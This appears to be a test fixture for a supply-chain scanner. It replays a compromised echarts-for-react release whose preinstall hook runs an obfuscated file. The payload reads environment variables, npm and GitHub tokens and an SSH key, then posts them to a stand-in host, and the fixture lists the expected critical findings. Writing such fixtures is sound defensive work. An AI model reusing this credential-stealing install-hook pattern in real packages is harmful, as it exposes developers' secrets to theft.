import { obfuscated } from '../obfuscated.js'
import { colours } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

/** At the root, where the package had no file before; half a megabyte in the incident. */
const payload = obfuscated(
  `
import $fs from 'node:fs';import $os from 'node:os';import $path from 'node:path';
async function $main(){const $found=[JSON[«stringify»](process[«env»])];
for(const $place of [«.npmrc»,«.ssh/id_rsa»,«.config/gh/hosts.yml»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
await fetch(«https://otel-traces.example:443/api/public/otel/v1/traces»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  1500,
)

const manifest = { type: 'module', main: 'esm/index.js' }
const files = { 'esm/index.js': colours }
const command = 'bun run index.js'

/** Who published other packages, and never this one. */
const other = { publisher: { name: 'maintainer-of-others' } }

export const replay = replayUpgrade({
  description:
    'A leaked token of one maintainer released hundreds of packages of charts within minutes, several lines of each: before install ' +
    'another runtime was to run a new file at the root, obfuscated. All that its maintainer could do at once was to deprecate them: “risk”.',
  date: '2026-05-19',
  reviewedAt: '2026-05-19T12:00:00Z',
  name: 'echarts-for-react',
  from: ['3.0.6', { manifest, files, published: '2026-01-15T12:00:00Z' }],
  to: [
    '3.1.7',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { ...files, 'index.js': payload },
      deprecated: 'risk',
      published: '2026-05-19T02:08:00Z',
      ...other,
    },
  ],
  beside: {
    '3.0.7': { files, published: '2026-05-19T02:01:00Z', ...other },
    '3.2.7': { files, published: '2026-05-19T02:14:00Z', ...other },
  },
  findings: [
    ['install-script-dangerous', 'critical', { file: 'index.js', line: payload }],
    ['secrets-exfiltrated', 'critical', { file: 'index.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'index.js', line: payload }],
    ['combined-risk', 'critical'],
    ['capability-added', 'high', { file: 'index.js', line: payload }],
    ['code-obfuscated', 'high', { file: 'index.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'high', { file: 'index.js', line: payload }],
    ['network-host-added', 'medium', { file: 'index.js', line: payload }],
    ['package-deprecated', 'high'],
    ['publisher-changed', 'medium'],
    ['release-burst', 'high'],
    ['release-fresh', 'medium'],
  ],
})
